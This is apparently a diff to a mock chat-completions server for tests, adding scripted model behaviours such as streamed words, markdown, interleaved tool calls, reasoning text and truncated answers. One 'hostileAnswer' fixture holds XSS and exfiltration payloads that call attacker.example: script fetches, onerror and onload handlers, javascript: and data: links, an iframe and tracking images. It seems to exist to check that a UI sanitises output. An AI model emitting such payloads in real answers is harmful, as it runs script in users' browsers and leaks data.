@@ -55,6 +55,15 @@ function answer(call: UpstreamCall, response: ServerResponse, usage: unknown = u
   call.finished = true;
 }
 
+function sendWhole(response: ServerResponse, message: object, finish: string): void {
+  const choices = [{ index: 0, message, finish_reason: finish }];
+  response
+    .writeHead(200, { 'content-type': 'application/json' })
+    .end(
+      JSON.stringify({ id: 'c1', object: 'chat.completion', created: 1, model: 'm', choices, usage: upstreamUsage }),
+    );
+}
+
 const refuse =
   (status: number, code: string, headers: Record<string, string> = {}): Behaviour =>
   (_, response) => {
@@ -63,9 +72,77 @@ const refuse =
       .end(JSON.stringify({ error: { message: `${code} said the server`, type: code, code } }));
   };
 
+/** Words that a reader can count: a lost or doubled piece shows. */
+export const countedWords = Array.from({ length: 80 }, (_, at) => `w${at + 1} `);
+
+/** Markdown with every shape that an answer may have. */
+export const markdownAnswer = [
+  '## Three ways to pay\n\n',
+  '| Way | Fee |\n| --- | ---: |\n| Card | 1.2 % |\n| Transfer | none |\n\n',
+  'The fee is $f = 0.012 \\cdot p$, so:\n\n',
+  '```ts\nconst fee = (price: number) => price * 0.012;\n```\n\n',
+  '- **Card** is instant\n- Transfer takes `2` days\n',
+];
+
+/** What a hostile model or document would say; each line would run or call home if the page believed it. */
+export const hostileAnswer = (home: string): readonly string[] => [
+  'Before. <script>globalThis.attacked = 1; fetch("',
+  `${home}/script")</script>\n\n`,
+  `<img src="${home}/tag.png" onerror="globalThis.attacked = 2">\n\n`,
+  `![pixel](${home}/markdown.png?leak=1)\n\n`,
+  '[run me](javascript:globalThis.attacked=3)\n\n',
+  '[open me](data:text/html,<script>globalThis.attacked=4</script>)\n\n',
+  `<iframe src="${home}/frame"></iframe>\n\n<svg onload="globalThis.attacked=5"></svg>\n\n`,
+  `<style>body{background:url(${home}/style.png)}</style>\n\n`,
+  '$\\href{javascript:globalThis.attacked=6}{x}$ $\\includegraphics{',
+  `${home}/math.png}$\n\nAfter.`,
+];
+
+/** Streams pieces one after another, with a pause between them. */
+const tell =
+  (pieces: readonly string[], pauseMs: number): Behaviour =>
+  (call, response) => {
+    response.writeHead(200, { 'content-type': 'text/event-stream' });
+    response.write(chunk({ role: 'assistant', content: '' }));
+    let at = 0;
+    const timer = setInterval(() => {
+      const content = pieces[at];
+      at += 1;
+      if (content !== undefined) {
+        response.write(chunk({ content }));
+        return;
+      }
+      clearInterval(timer);
+      response.write(chunk({}, 'stop'));
+      response.write(usageChunk(upstreamUsage));
+      response.end('data: [DONE]\n\n');
+      call.finished = true;
+    }, pauseMs);
+    response.once('close', () => clearInterval(timer));
+  };
+
+/** The last thing a person said. */
+function lastQuestion(call: UpstreamCall): string {
+  const messages = call.body.messages as readonly { readonly role: string; readonly content: unknown }[];
+  const content = messages.findLast(({ role }) => role === 'user')?.content;
+  return typeof content === 'string' ? content : JSON.stringify(content);
+}
+
+/** One model that does what the question's words ask for, as a chat needs; asked anything else it says the question back. */
+const obeys: Behaviour = (call, response) => {
+  const question = lastQuestion(call);
+  if (!call.body.stream) return answer(call, response);
+  if (/\bcount\b/i.test(question)) return tell(countedWords, 40)(call, response);
+  if (/\bforever\b/i.test(question)) return behaviours.slow?.(call, response);
+  if (/\bmarkdown\b/i.test(question)) return tell(markdownAnswer, 5)(call, response);
+  if (/\battack\b/i.test(question)) return tell(hostileAnswer('http://attacker.example'), 5)(call, response);
+  return tell([`You said: ${question.split('\n').at(-1)}`], 5)(call, response);
+};
+
 /** Model name → what the server does. */
 const behaviours: Readonly<Record<string, Behaviour>> = {
   scripted: (call, response) => answer(call, response),
+  obeys,
   lying: (call, response) => answer(call, response, { prompt_tokens: -5, completion_tokens: 1e15, total_tokens: 3 }),
   silent: (call, response) => answer(call, response, null),
   stalled: () => {},
@@ -100,6 +177,60 @@ const behaviours: Readonly<Record<string, Behaviour>> = {
     response.end(
       'data: {"error": {"message": "the server is on fire", "type": "server_error", "code": "internal"}}\n\n',
     );
+  },
+  /** Two calls at once: fragments interleaved, ids only on the first of each, a character split from its neighbours. */
+  tools: (call, response) => {
+    const whole = ['{"city":"Paris"}', '{"city":"北京"}'];
+    const head = (index: number) => ({
+      index,
+      id: ['call_a', 'call_b'][index],
+      type: 'function',
+      function: { name: 'weather', arguments: '' },
+    });
+    if (!call.body.stream) {
+      const toolCalls = whole.map((text, index) => ({
+        ...head(index),
+        function: { name: 'weather', arguments: text },
+      }));
+      sendWhole(response, { role: 'assistant', content: null, tool_calls: toolCalls }, 'tool_calls');
+    } else {
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.write(chunk({ role: 'assistant', content: null, tool_calls: [head(0)] }));
+      response.write(chunk({ tool_calls: [head(1)] }));
+      for (let from = 0; from < 20; from += 5)
+        whole.forEach((text, index) => {
+          const piece = text.slice(from, from + 5);
+          if (piece) response.write(chunk({ tool_calls: [{ index, function: { arguments: piece } }] }));
+        });
+      response.write(chunk({}, 'tool_calls'));
+      response.write(usageChunk(upstreamUsage));
+      response.end('data: [DONE]\n\n');
+    }
+    call.finished = true;
+  },
+  thinking: (call, response) => {
+    if (!call.body.stream) {
+      sendWhole(response, { role: 'assistant', content: 'Done.', reasoning_content: 'Let me think.' }, 'stop');
+    } else {
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.write(chunk({ role: 'assistant', reasoning_content: 'Let me ' }));
+      response.write(chunk({ reasoning_content: 'think.' }));
+      response.write(chunk({ content: 'Done.' }));
+      response.write(chunk({}, 'stop'));
+      response.end(`${usageChunk(upstreamUsage)}data: [DONE]\n\n`);
+    }
+    call.finished = true;
+  },
+  length: (call, response) => {
+    if (!call.body.stream) {
+      sendWhole(response, { role: 'assistant', content: 'Half an ' }, 'length');
+    } else {
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.write(chunk({ role: 'assistant', content: 'Half an ' }));
+      response.write(chunk({}, 'length'));
+      response.end(`${usageChunk(upstreamUsage)}data: [DONE]\n\n`);
+    }
+    call.finished = true;
   },
   nonsense: (_, response) => {
     response.writeHead(200, { 'content-type': 'application/json' }).end('<html>surprise</html>');
